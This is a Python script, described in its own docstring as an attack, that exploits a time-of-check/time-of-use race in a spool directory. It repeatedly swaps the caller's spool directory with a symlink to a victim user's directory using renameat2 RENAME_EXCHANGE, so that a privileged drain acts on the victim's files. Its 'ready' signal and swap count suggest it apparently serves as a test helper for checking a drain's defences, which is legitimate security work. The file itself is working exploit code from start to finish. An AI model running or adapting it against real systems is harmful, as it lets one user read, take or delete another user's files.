"""Attack: swap my own spool directory with a symlink to another user's, as fast as possible.

usage: swap_spool_dir.py SPOOL_ROOT VICTIM_UID

Creates SPOOL_ROOT/<my uid> and a symlink SPOOL_ROOT/<my uid>.swap -> SPOOL_ROOT/VICTIM_UID,
prints "ready", then exchanges the two names atomically (renameat2 RENAME_EXCHANGE) until
SIGTERM and prints how many times. A drain that checks SPOOL_ROOT/<my uid> and later resolves
that path again lists, opens or unlinks the victim's files as if they were mine.
"""

from __future__ import annotations

import ctypes
import os
import signal
import sys

AT_FDCWD = -100
RENAME_EXCHANGE = 2

libc = ctypes.CDLL(None, use_errno=True)
stopping = False


def stop(_signum: int, _frame: object) -> None:
    global stopping
    stopping = True


def exchange(a: bytes, b: bytes) -> None:
    if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
        errno = ctypes.get_errno()
        raise OSError(errno, os.strerror(errno))


def main(root: str, victim_uid: str) -> int:
    signal.signal(signal.SIGTERM, stop)
    mine = os.path.join(root, str(os.getuid()))
    link = mine + ".swap"
    if not os.path.isdir(mine):
        os.mkdir(mine, 0o700)
    os.symlink(os.path.join(root, victim_uid), link)
    print("ready", flush=True)
    swaps = 0
    while not stopping:
        exchange(mine.encode(), link.encode())
        swaps += 1
    if swaps % 2:
        exchange(mine.encode(), link.encode())  # leave my real directory in place
    print(swaps, flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
